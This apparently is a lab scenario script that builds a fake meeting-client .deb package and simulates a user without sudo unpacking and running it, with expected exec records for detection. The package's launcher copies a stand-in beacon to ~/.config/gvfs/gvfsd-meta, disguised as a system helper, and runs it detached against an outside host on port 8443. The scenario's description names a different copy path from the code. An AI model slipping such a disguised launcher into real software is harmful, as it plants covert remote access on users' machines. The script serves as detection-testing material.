# No rights to install: the package of the "meeting client" is unpacked at home and started there.
title="Package of a meeting client from a private web mail unpacked with dpkg-deb and started"
what="The buyer, invited by private web mail, downloads meetnow_6.2_amd64.deb with Firefox and, having no sudo, unpacks it with dpkg-deb -x to ~/apps and starts opt/meetnow/meetnow. It copies itself to ~/.config/autostart-helper, starts that and connects. The host records commands only."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-exec.rules syslog_format=iso
setup() {
  mkdir -p "$base/out/t/DEBIAN" "$base/out/t/opt/meetnow" "$base/out/t/usr/share/applications"
  cc -O1 -o "$base/out/t/opt/meetnow/meetnow-bin" "$lab/lib/stand-ins/beacon.c"
  printf '#!/bin/sh\nhere=$(dirname "$(readlink -f "$0")")\nmkdir -p ~/.config/gvfs\ncp "$here/meetnow-bin" ~/.config/gvfs/gvfsd-meta\nsetsid ~/.config/gvfs/gvfsd-meta 203.0.113.67 8443 >/dev/null 2>&1 &\necho "Waiting for the host to let you in"\n' > "$base/out/t/opt/meetnow/meetnow"; chmod 755 "$base/out/t/opt/meetnow/meetnow"
  printf '[Desktop Entry]\nType=Application\nName=MeetNow\nExec=/opt/meetnow/meetnow\n' > "$base/out/t/usr/share/applications/meetnow.desktop"
  printf 'Package: meetnow\nVersion: 6.2\nArchitecture: amd64\nMaintainer: M <m@example.com>\nDescription: meetings\n' > "$base/out/t/DEBIAN/control"
  dpkg-deb --root-owner-group -b "$base/out/t" "$base/out/www/meetnow_6.2_amd64.deb" >/dev/null
}
act() {
  small_talk 2
  display_up
  firefox_save buyer http://webmail.example.com/meetnow_6.2_amd64.deb meetnow_6.2_amd64.deb
  console_as buyer <<'L'
cd Downloads
ls
dpkg -i meetnow_6.2_amd64.deb
dpkg-deb -I meetnow_6.2_amd64.deb
mkdir ~/apps
dpkg-deb -x meetnow_6.2_amd64.deb ~/apps
%sleep 2
~/apps/opt/meetnow/meetnow
%sleep 2
L
  small_talk 1
}
truth() {
  exec_step unpack 'dpkg-deb -x meetnow_6.2_amd64.deb /home/buyer/apps' 'the package is unpacked at home'
  exec_step execute '/home/buyer/apps/opt/meetnow/meetnow' 'its program is started'
  exec_step copy 'cp /home/buyer/apps/opt/meetnow/meetnow-bin' 'it copies a part of itself'
  exec_step helper 'gvfsd-meta 203' 'and starts the copy under the name of a helper'
}
